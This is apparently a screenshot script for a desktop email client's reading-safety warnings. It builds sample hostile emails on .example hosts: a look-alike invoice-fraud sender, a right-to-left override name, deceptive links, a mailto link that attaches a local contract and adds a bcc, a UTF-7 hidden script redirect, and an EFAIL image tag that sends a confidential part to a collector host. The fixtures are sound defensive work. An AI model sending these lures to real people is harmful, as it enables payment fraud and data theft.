"""Render screenshots of the reading-safety warnings (issue 9) into docs/screenshots/.

Usage: ``.venv/bin/python scripts/screenshots_hardening.py [--out DIR]``, or
``--profile-only DIR`` to build the demo profile with the example messages and stop (for a walk
through with ``tradewind --demo --profile DIR``). Like ``scripts/screenshots.py`` (whose Xvfb
start-up, child process and fixed demo anchor it reuses) it draws under its own Xvfb when
there is no ``DISPLAY``, in English and Simplified Chinese, at 100 % and, in a second child
with ``QT_SCALE_FACTOR=1.5``, at 150 % (files ending in ``-150.png``; the windows then get two
thirds of the size, as on a 1440x900 screen at 150 %). The example messages are written here as
raw RFC 822 and put into the demo Inbox through ``Store.insert_messages``; the damaged cache is
the demo cache with message pages overwritten. No network is used. With ``optipng`` on the
PATH the files are optimised.
"""

from __future__ import annotations

import argparse
import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))
sys.path.insert(0, str(REPO / "scripts"))

from screenshots import ANCHOR, SIZE, qt_app, run_script, wait_for  # noqa: E402

REP = "mei.lin@harbor-lighting.example"
SCALE = os.environ.get("QT_SCALE_FACTOR", "")
SUFFIX = "-150" if SCALE == "1.5" else ""

# -- the example messages ------------------------------------------------------------------------
SUBJECT_INVOICE = "Zahlungserinnerung Rechnung RE-26-4471 / payment reminder"
SUBJECT_BANK = "Neue Bankverbindung ab 1. Dezember / new bank details"
SUBJECT_APPROVAL = "Freigabe Anzahlung PO-45-2611 / deposit approval"
SUBJECT_UTF7 = "Preisliste 2027 / price list 2027"
SUBJECT_EFAIL = "Re: PO-45-2611 confirmed quantities"


def _header(sender: str, subject: str, minute: int, extra: str = "") -> str:
    from email.header import Header

    when = datetime(ANCHOR.year, ANCHOR.month, ANCHOR.day, 8, minute, tzinfo=UTC)
    return (
        f"From: {sender}\r\nTo: Mei Lin <{REP}>\r\n"
        f"Subject: {Header(subject, 'utf-8').encode()}\r\n"
        f"Date: {when.strftime('%a, %d %b %Y %H:%M:%S +0000')}\r\n"
        f"Message-ID: <hardening-{minute}@kraemer-licht.example>\r\nMIME-Version: 1.0\r\n{extra}"
    )


def _invoice() -> bytes:
    """A display name that holds the buyer's real address, sent from a look-alike domain."""
    return (_header('"Sabine Vogt <s.vogt@kraemer-licht.example>" '
                    "<billing@kraemer-invoices.example>", SUBJECT_INVOICE, 41)
            + "Content-Type: text/plain; charset=utf-8\r\n\r\n"
            "Dear Ms Lin,\r\n\r\nour accounts show invoice RE-26-4471 (USD 48,210.00, deposit for "
            "PO-45-2611) as unpaid. Please settle it today to the account in the attached "
            "statement so the container can leave Ningbo on 4 December.\r\n\r\n"
            "Mit freundlichen Grüßen\r\nSabine Vogt\r\nBuchhaltung, Kraemer Lichttechnik GmbH\r\n"
            "Spaldingstraße 64, 20097 Hamburg\r\n").encode()


def _approval() -> bytes:
    """A comment before the address that looks like the buyer's managing director."""
    return (_header("(Hans Kraemer <hans.kraemer@kraemer-licht.example>) "
                    "h.kraemer@kraemer-licht-gmbh.example", SUBJECT_APPROVAL, 43)
            + "Content-Type: text/plain; charset=utf-8\r\n\r\n"
            "Mei,\r\n\r\nI approve the deposit change. Please send the revised proforma to "
            "this address only, I am travelling.\r\n\r\nHans\r\n").encode()


BANK_HTML = """<html><body style="font-family: Arial, sans-serif">
<p>Dear Ms Lin,</p>
<p>due to an audit our bank account has changed with effect from 1 December. Please update
your records and use only the new account for the deposit of PO-45-2611.</p>
<p>Confirm the change in our supplier portal:
<a href="https://haspa-verify.example/login">https://www.haspa.de/kraemer</a></p>
<p>Online banking: <a href="https://www.deutsche-bank.example@pay-check.example/">
https://www.deutsche-bank.example</a></p>
<p>Our new order site: <a href="https://www.kraemer-l\u0456cht.example/orders">Kraemer orders</a></p>
<p>Questions? <a href="mailto:accounts@kraemer-payments.example?subject=Bank%20details%20PO-45-2611&amp;bcc=collect@pay-check.example&amp;attach=C:/Users/mei/Documents/contract.pdf&amp;from=hans.kraemer@kraemer-licht.example">Write to our accounts team</a></p>
<p>Mit freundlichen Grüßen<br>Kraemer Lichttechnik GmbH, Buchhaltung<br>Hamburg</p>
</body></html>"""


def _bank() -> bytes:
    """The "bank details changed" lure: a right-to-left override in the name, two From
    addresses, and links that show another site than they open, hide it behind user-info,
    mix alphabets, and a mailto: link that asks for an attachment and another sender."""
    from email.header import Header

    name = Header("Kraemer Buchhaltung \u202e(kraemer-licht.example)\u202c", "utf-8").encode()
    return (_header(f"{name} <accounts@kraemer-payments.example>, hans.kraemer@kraemer-licht.example",
                    SUBJECT_BANK, 47)
            + "Content-Type: text/html; charset=utf-8\r\n\r\n" + BANK_HTML).encode()


def _utf7() -> bytes:
    """An HTML part in UTF-7, where <script> hides as +ADw-script+AD4-."""
    html = ("<html><body><p>Dear Mei,</p><p>please find our price list 2027 below. All prices "
            "in EUR (\u20ac) per piece, FOB Ningbo.</p>"
            "<table><tr><td>LED panel 600x600</td><td>\u20ac 18,40</td></tr>"
            "<tr><td>Downlight DL-12</td><td>\u20ac 6,95</td></tr></table>"
            "<p>Viele Grüße<br>Jonas Peters, Einkauf</p></body></html>").encode("utf-7")
    html = html.replace(b"<table>", b"+ADw-script+AD4-location='https://kraemer-prices.example/'"
                        b"+ADw-/script+AD4-<table>")
    return (_header("Jonas Peters <j.peters@kraemer-licht.example>", SUBJECT_UTF7, 45)
            + "Content-Type: text/html; charset=utf-7\r\n\r\n").encode() + html + b"\r\n"


def _efail() -> bytes:
    """EFAIL: a picture address opened in the first HTML part and closed in the third, so the
    confidential middle part would be sent to the attacker's server."""
    boundary = "efail-2611"
    parts = [
        '<html><body><p>Hi Mei, see our confirmed quantities below.</p>'
        '<img src="https://collect.pay-check.example/pixel?d=',
        "<p>CONFIDENTIAL: our target price for PO-45-2611 is USD 3.10 per panel; "
        "do not go below USD 2.95.</p>",
        '"></body></html>',
    ]
    body = "".join(f"--{boundary}\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{p}\r\n"
                   for p in parts) + f"--{boundary}--\r\n"
    return (_header("Hans Kraemer <hans.kraemer@kraemer-licht.example>", SUBJECT_EFAIL, 39,
                    f'Content-Type: multipart/mixed; boundary="{boundary}"\r\n')
            + "\r\n" + body).encode()


def example_messages() -> list[bytes]:
    return [_efail(), _invoice(), _approval(), _utf7(), _bank()]


def build_profile(profile: Path) -> Path:
    """The demo profile (fixed anchor) with the example messages in its Inbox; the database."""
    from client.demo import build_demo_profile
    from client.profile.paths import DATABASE_NAME
    from client.store.db import Store
    from client.store.records import IncomingMessage

    build_demo_profile(profile, anchor=ANCHOR)
    db_path = profile / DATABASE_NAME
    with Store.open(db_path) as store:
        account = store.list_accounts()[0]
        inbox = store.folder_by_role(account.id, "inbox")
        assert inbox is not None
        top = max(store.folder_uids(inbox.id), default=0)
        batch = [IncomingMessage(uid=top + n, raw=raw, internaldate=datetime(
            ANCHOR.year, ANCHOR.month, ANCHOR.day, 9, n, tzinfo=UTC))
            for n, raw in enumerate(example_messages(), start=1)]
        store.insert_messages(inbox.id, batch, top + len(batch))
        while store.index_pending(500):
            pass
    return db_path


# -- drawing -------------------------------------------------------------------------------------
def render(out_dir: Path) -> list[Path]:
    app = qt_app()
    written: list[Path] = []
    try:
        for language, locale_name in (("en", "en_US"), ("zh_CN", "zh_CN")):
            written += render_language(app, out_dir, language, locale_name)
    finally:
        from ui.reader.html_view import release_locked_profile

        release_locked_profile()
    if shutil.which("optipng"):  # smaller files, same pixels
        subprocess.run(["optipng", "-quiet", "-o2", *map(str, written)], check=False)
    if not SCALE:  # the same once more at 150 %, in a child (the factor is read at start)
        env = {**os.environ, "QT_SCALE_FACTOR": "1.5"}
        subprocess.run([sys.executable, str(Path(__file__).resolve()), "--render", "--out",
                        str(out_dir)], env=env, check=True)
    return written


def _scaled(size: tuple[int, int]) -> tuple[int, int]:
    return (size[0] * 2 // 3, size[1] * 2 // 3) if SUFFIX else size


#: which pictures each run keeps (the rest of the walk still runs, so every step is exercised)
KEEP = {
    ("en", ""): {"reader-sender-warning", "link-confirm", "mailto-composer", "reader-utf7",
                 "reader-efail", "cache-repair", "cache-repair-rebuilt"},
    ("zh_CN", ""): {"reader-sender-warning", "link-confirm", "sync-error",
                    "wizard-certificate-reason"},
    ("en", "-150"): {"reader-sender-bidi", "link-confirm"},
    ("zh_CN", "-150"): {"mailto-composer", "cache-repair", "reply-signature",
                        "settings-signature"},
}


def render_language(app: Any, out_dir: Path, language: str, locale_name: str) -> list[Path]:
    """Every picture of one UI language at the process's scale."""
    from PySide6.QtCore import QUrl
    from PySide6.QtGui import QGuiApplication
    from PySide6.QtTest import QTest
    from PySide6.QtWebEngineCore import QWebEnginePage
    from PySide6.QtWidgets import QMessageBox, QWidget

    from ui.mainwindow.window import MainWindow
    from ui.qt.dates import babel_locale
    from ui.qt.i18n import install_translators
    from ui.reader.html_content import link_url

    install_translators(app, language)
    keep = KEEP[(language, SUFFIX)]
    work = Path(tempfile.mkdtemp(prefix="tradewind-hardening-shots-"))
    db_path = build_profile(work / "profile")
    written: list[Path] = []

    def save(pixmap: Any, name: str) -> None:
        if name not in keep:
            return
        path = out_dir / f"{name}-{language}{SUFFIX}.png"
        if not pixmap.save(str(path)):
            raise RuntimeError(f"could not write {path}")
        written.append(path)

    def shot(widget: QWidget, name: str) -> None:
        save(widget.grab(), name)

    def screen_shot(name: str, widget: QWidget) -> None:
        """The screen around ``widget`` (its dialogs and tooltips included)."""
        screen = QGuiApplication.primaryScreen()
        frame = widget.frameGeometry()
        save(screen.grabWindow(0, frame.x(), frame.y(), frame.width(), frame.height()), name)

    window = MainWindow(db_path, babel_locale(locale_name), demo=True)
    window.resize(*_scaled(SIZE))
    window.move(0, 0)
    window.show()
    wait_for(lambda: window.list_source is not None, "the inbox")
    reader = window.reader

    def select(subject: str, html: bool = False) -> None:
        model = window.message_model
        row = next(r for r in range(model.rowCount()) if model.message(r).subject == subject)
        window.message_view.selectRow(row)
        message_id = model.message_id_at(row)
        wait_for(lambda: reader.shown_id == message_id
                 and reader.body.toPlainText() not in ("", "Loading…", "正在加载…"), subject)
        if html:
            view = reader.html_view
            wait_for(lambda: view is not None and reader.stack.currentWidget() is view
                     and view.url().scheme() == "twmail", "the HTML view")
            QTest.qWait(700)  # let Chromium paint

    select(SUBJECT_INVOICE)
    shot(window, "reader-sender-warning")
    select(SUBJECT_APPROVAL)
    shot(window, "reader-sender-comment")
    select(SUBJECT_UTF7)
    shot(window, "reader-utf7")
    select(SUBJECT_EFAIL, html=True)
    shot(window, "reader-efail")
    select(SUBJECT_BANK, html=True)
    shot(window, "reader-sender-bidi")

    def link_number(href_start: str) -> int:
        return next(n for n, link in enumerate(reader._links) if link.href.startswith(href_start))

    def answer_no(name: str) -> Callable[[QMessageBox], int]:
        def ask(box: QMessageBox) -> int:
            box.show()
            wait_for(box.isVisible, "the link question", 400)
            screen_shot(name, window)
            box.hide()
            return QMessageBox.StandardButton.No.value
        return ask

    def click(href_start: str, name: str) -> None:
        url = link_url(reader._document_key, link_number(href_start))
        reader.html_view.locked_page.linkHovered.emit(url)  # the hint under the message
        wait_for(reader.link_hint.isVisible, "the link hint")
        reader.ask_link = answer_no(name)
        accepted = reader.html_view.locked_page.acceptNavigationRequest(
            QUrl(url), QWebEnginePage.NavigationType.NavigationTypeLinkClicked, True)
        assert accepted is False  # the page never follows a link itself

    click("https://www.deutsche-bank.example@", "link-confirm")
    click("https://haspa-verify.example", "link-text-mismatch")
    click("https://www.kraemer-l", "link-mixed-script")

    # the mailto: link, answered Yes: Tradewind's own composer with the refusals listed
    def answer_yes(box: QMessageBox) -> int:
        return QMessageBox.StandardButton.Yes.value

    reader.ask_link = answer_yes
    url = link_url(reader._document_key, link_number("mailto:"))
    reader.html_view.locked_page.acceptNavigationRequest(
        QUrl(url), QWebEnginePage.NavigationType.NavigationTypeLinkClicked, True)
    wait_for(lambda: bool(window.compose.composers), "the composer")
    composer = window.compose.composers[-1]
    wait_for(lambda: getattr(composer, "mailto_notice", None) is not None
             and composer.signature is not None, "the mailto composer", 600)
    composer.resize(*_scaled((1000, 820)))
    QTest.qWait(200)
    shot(composer, "mailto-composer")
    composer.sent = True  # no draft is kept when the picture's composer closes
    composer.close()

    # a reply to the buyer: the demo company's locked signature under the reply
    select("克雷默订单交期问题")
    reply = window.compose.open_composer("reply")
    wait_for(lambda: reply.is_ready and reply.signature is not None, "the reply", 600)
    reply.resize(*_scaled((1000, 820)))
    QTest.qWait(200)
    shot(reply, "reply-signature")
    reply.sent = True
    reply.close()

    for open_composer in list(window.compose.composers):
        open_composer.sent = True
        open_composer.close()
    select(SUBJECT_BANK, html=True)
    sync_error(window, screen_shot)
    window.close()
    wizard_certificate(db_path, shot)
    settings_signature(db_path, shot)
    cache_repair(work, shot)
    install_translators(app, "en")
    QTest.qWait(100)
    shutil.rmtree(work, ignore_errors=True)
    return written


def sync_error(window: Any, screen_shot: Callable[[str, Any], None]) -> None:
    """The status bar after the server's certificate was refused: the core's message (in the
    UI language) in the status line's tooltip."""
    import ssl

    from PySide6.QtCore import QPoint
    from PySide6.QtTest import QTest
    from PySide6.QtWidgets import QToolTip

    from client.i18n import _
    from client.net.cert_reasons import reason_in_words
    from ui.sync.driver import SyncDriver
    from ui.sync.status import describe
    from ui.sync.window_controls import SyncControls

    failure = ssl.SSLCertVerificationError(1, "certificate verify failed")
    failure.verify_code = 19
    failure.verify_message = "self-signed certificate in certificate chain"
    where = "mail.harbor-lighting.example:993"
    message = _("The certificate of {where} is not trusted ({reason}). Its SHA-256 "
                "fingerprint is {fingerprint}; accept it only if your IT department "
                "confirms this exact value.", where=where, reason=reason_in_words(failure),
                fingerprint="3A:91:…:C4")
    driver = SyncDriver(window.db_path, window.db_path.parent, idle_seconds=3600)
    controls = SyncControls(window, driver)
    account = window.store.list_accounts()[0]
    driver.states[account.id] = describe(account.email, "untrusted-certificate", message)
    controls.show_states()
    label = window.connection_label
    QTest.qWait(200)
    QToolTip.showText(label.mapToGlobal(QPoint(0, -8)), label.toolTip(), label)
    wait_for(QToolTip.isVisible, "the tooltip", 400)
    screen_shot("sync-error", window)
    QToolTip.hideText()


def wizard_certificate(db_path: Path, shot: Callable[[Any, str], None]) -> None:
    """The wizard's certificate page with the core's reason in the UI language."""
    import ssl

    from client.imap.errors import TLSVerificationError
    from client.net.cert_reasons import reason_in_words
    from ui.wizard.dialog import PAGE_TEST, AccountWizard

    failure = ssl.SSLCertVerificationError(1, "certificate verify failed")
    failure.verify_code = 18
    wizard = AccountWizard(db_path, discover_fn=lambda _email: None)
    wizard.resize(*_scaled((760, 560)))
    wizard.show()
    wizard.email_field.setText(REP)
    wizard._show_page(PAGE_TEST)
    fingerprint = ":".join(f"{(n * 37 + 11) % 256:02X}" for n in range(32))
    wizard._test_failed(TLSVerificationError("not trusted", fingerprint,
                                             reason_in_words(failure)))
    wait_for(lambda: wizard.trust_button.isVisible(), "the certificate page")
    shot(wizard, "wizard-certificate-reason")
    wizard.stored_email = None
    wizard.reject()


def settings_signature(db_path: Path, shot: Callable[[Any, str], None]) -> None:
    """Settings > Signature on the demo profile: the locked company signature's preview."""
    from ui.settings.dialog import AppSettingsDialog
    from ui.settings.preferences import Preferences

    settings = AppSettingsDialog(db_path, Preferences())
    settings.resize(*((900, 560) if SUFFIX else (1040, 700)))  # 150 %: what the screen holds
    settings.show()
    wait_for(lambda: settings.snapshot is not None, "the settings")
    tab = settings.signature_tab
    settings.tabs.setCurrentWidget(tab)
    loads: list[bool] = []
    if tab.html_view is not None:
        tab.html_view.loadFinished.connect(loads.append)
        tab.render_preview()
        wait_for(lambda: bool(loads), "the preview", 500)
    shot(settings, "settings-signature")
    settings.reject()


def cache_repair(work: Path, shot: Callable[[Any, str], None]) -> None:
    """The start-up dialog for a damaged cache, then the rebuild's outcome."""
    build_profile(work / "Tradewind")
    here = Path.cwd()
    os.chdir(work)  # the dialog names the file: a relative path shows no machine folder
    try:
        _repair(Path("Tradewind"), shot)
    finally:
        os.chdir(here)


def _repair(profile: Path, shot: Callable[[Any, str], None]) -> None:
    from client.profile.paths import DATABASE_NAME
    from client.store.db import Store
    from client.store.errors import StoreCorruptError
    from tests.client.store.test_rebuild import damage_messages_sparing
    from ui.app.cache_repair import CacheRepairDialog, cache_problem

    db_path = profile / DATABASE_NAME
    damage_messages_sparing(db_path, set())
    try:  # the app met the damage (e.g. the message list), so the next start checks
        with Store.open(db_path) as store:
            store.conn.execute("SELECT raw FROM bodies").fetchall()
    except StoreCorruptError:
        pass
    detail = cache_problem(db_path)
    assert detail is not None, "the cache should be damaged"
    dialog = CacheRepairDialog(db_path, profile, detail)
    dialog.resize(_scaled((640, 300))[0], 1)  # as tall as its text needs
    dialog.show()
    wait_for(dialog.isVisible, "the repair dialog")
    shot(dialog, "cache-repair")
    dialog.start_rebuild()
    wait_for(lambda: dialog.finished_rebuild is not None, "the rebuild")
    wait_for(dialog.continue_button.isVisible, "the outcome", 300)
    shot(dialog, "cache-repair-rebuilt")
    dialog.accept()


def main() -> int:
    if "--profile-only" in sys.argv:
        parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
        parser.add_argument("--profile-only", type=Path, required=True)
        args = parser.parse_args()
        print(build_profile(args.profile_only))
        return 0
    return run_script(Path(__file__), render, __doc__.splitlines()[0])


if __name__ == "__main__":
    raise SystemExit(main())
